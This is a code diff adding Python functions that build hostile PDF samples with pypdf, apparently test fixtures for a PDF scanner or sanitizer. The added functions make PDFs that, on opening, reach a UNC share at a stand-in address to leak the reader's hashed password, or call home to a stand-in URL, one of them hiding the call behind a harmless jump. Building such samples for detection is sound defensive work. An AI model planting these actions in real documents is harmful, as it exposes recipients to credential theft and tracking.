@@ -89,6 +89,35 @@ def runs_a_script_from_a_link(writer: PdfWriter) -> None:
     writer.pages[0][NameObject("/Annots")] = ArrayObject([link])
 
 
+def opens_a_file_elsewhere(writer: PdfWriter) -> None:
+    """Opening it sends the reader's password, hashed, to a share of somebody else's."""
+    remote = action_without_script("/GoToR")
+    remote[NameObject("/F")] = TextStringObject("\\\\192.0.2.1\\share\\a.pdf")
+    writer.root_object[NameObject("/OpenAction")] = remote
+
+
+def calls_home_when_opened(writer: PdfWriter) -> None:
+    """The address comes after a harmless jump."""
+    jump = action_without_script("/GoTo")
+    jump[NameObject("/Next")] = ArrayObject([_address(writer)])
+    writer.root_object[NameObject("/OpenAction")] = jump
+
+
+def calls_home_from_a_page(writer: PdfWriter) -> None:
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _address(writer)})
+
+
+def links_to_a_page(writer: PdfWriter) -> None:
+    link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): _address(writer)})
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([link])
+
+
+def _address(writer: PdfWriter) -> Any:
+    uri = action_without_script("/URI")
+    uri[NameObject("/URI")] = TextStringObject("http://192.0.2.1/seen")
+    return writer._add_object(uri)
+
+
 def carries_an_xfa_form(writer: PdfWriter) -> None:
     form = DictionaryObject({NameObject("/XFA"): TextStringObject("x")})
     writer.root_object[NameObject("/AcroForm")] = form
